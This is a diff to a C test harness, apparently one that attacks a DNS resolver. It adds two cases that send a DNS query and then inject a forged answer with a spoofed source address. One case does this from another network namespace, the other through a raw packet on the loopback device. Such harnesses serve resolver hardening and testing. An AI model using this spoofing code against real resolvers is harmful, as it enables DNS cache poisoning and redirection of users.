@@ -15,14 +15,18 @@
  */
 #include <arpa/inet.h>
 #include <fcntl.h>
+#include <linux/if_ether.h>
 #include <linux/errqueue.h>
 #include <linux/net_tstamp.h>
 #include <linux/sock_diag.h>
+#include <net/if.h>
 #include <netinet/in.h>
 #include <netinet/ip.h>
 #include <netinet/tcp.h>
 #include <netinet/udp.h>
+#include <netpacket/packet.h>
 #include <poll.h>
+#include <sched.h>
 #include <sys/socket.h>
 #include <time.h>
 #include <unistd.h>
@@ -619,6 +623,86 @@ static int slip(int argc, char **argv)
 	return 0;
 }
 
+/* Asks, and somebody who was told port and id answers with the server's address. */
+static int forged(char **argv, void (*send_answer)(const struct sockaddr_in *from,
+						   const struct sockaddr_in *to, const struct msg *m))
+{
+	struct sockaddr_in srv = in_addr_of(argv[1], 53), me = { .sin_family = AF_INET };
+	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	socklen_t len = sizeof(me);
+	struct msg m;
+
+	must(!connect(fd, (struct sockaddr *)&srv, sizeof(srv)) &&
+	     !getsockname(fd, (struct sockaddr *)&me, &len), "a socket");
+	put_question(&m, ID, 0x0100, argv[2]);
+	must(send(fd, m.bytes, m.len, 0) > 0, "ask");
+	put_question(&m, ID, 0x8180, argv[2]);
+	put_a(&m, argv[2], in_addr_of(argv[3], 0).sin_addr.s_addr, 60, ANSWERS);
+	send_answer(&srv, &me, &m);
+	must(answered(fd), "no answer");
+	return 0;
+}
+
+static const char *accomplice;
+
+static void send_from_there(const struct sockaddr_in *from, const struct sockaddr_in *to, const struct msg *m)
+{
+	int here = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC), there = open(accomplice, O_RDONLY | O_CLOEXEC);
+
+	must(!setns(there, CLONE_NEWNET), accomplice);
+	send_spoofed(from, to, m);
+	must(!setns(here, CLONE_NEWNET), "back");
+}
+
+/* dns-accomplice SERVER NAME ADDRESS NETNS: the answer is sent in another network namespace. */
+static int by_accomplice(int argc, char **argv)
+{
+	must(argc == 5, "SERVER NAME ADDRESS NETNS");
+	accomplice = argv[4];
+	return forged(argv, send_from_there);
+}
+
+static uint16_t checksum(const uint8_t *bytes, size_t len)
+{
+	uint32_t sum = 0;
+
+	for (size_t i = 0; i + 1 < len; i += 2)
+		sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
+	while (sum >> 16)
+		sum = (sum & 0xffff) + (sum >> 16);
+	return (uint16_t)~sum;
+}
+
+/* As if the loopback device had it. */
+static void send_by_packet(const struct sockaddr_in *from, const struct sockaddr_in *to, const struct msg *m)
+{
+	struct sockaddr_ll lo = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP),
+				  .sll_ifindex = (int)if_nametoindex("lo"), .sll_halen = 6 };
+	int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IP));
+	uint8_t packet[2048] = { 0 };
+	struct iphdr *ip = (struct iphdr *)packet;
+	struct udphdr *udp = (struct udphdr *)(ip + 1);
+	size_t len = sizeof(*ip) + sizeof(*udp) + m->len;
+
+	must(fd >= 0 && len <= sizeof(packet), "packet socket");
+	*ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
+			      .tot_len = htons((uint16_t)len),
+			      .saddr = from->sin_addr.s_addr, .daddr = to->sin_addr.s_addr };
+	ip->check = htons(checksum(packet, sizeof(*ip)));
+	*udp = (struct udphdr){ .source = from->sin_port, .dest = to->sin_port,
+				.len = htons((uint16_t)(sizeof(*udp) + m->len)) };
+	memcpy(udp + 1, m->bytes, m->len);
+	must(sendto(fd, packet, len, 0, (struct sockaddr *)&lo, sizeof(lo)) == (ssize_t)len, "send a packet");
+	close(fd);
+}
+
+/* dns-packet SERVER NAME ADDRESS: the answer is put on the loopback device as a packet. */
+static int by_packet(int argc, char **argv)
+{
+	must(argc == 4, "SERVER NAME ADDRESS");
+	return forged(argv, send_by_packet);
+}
+
 /* dns-flood SERVER N: questions that nobody answers, as fast as can be. */
 static int flood(int argc, char **argv)
 {
@@ -653,6 +737,8 @@ const struct attack attacks_dns[] = {
 	{ "dns-midstream", midstream },
 	{ "dns-errqueue", errqueue },
 	{ "dns-slip", slip },
+	{ "dns-accomplice", by_accomplice },
+	{ "dns-packet", by_packet },
 	{ "dns-flood", flood },
 	{ "dns-connect", connect_to },
 	{ 0 },
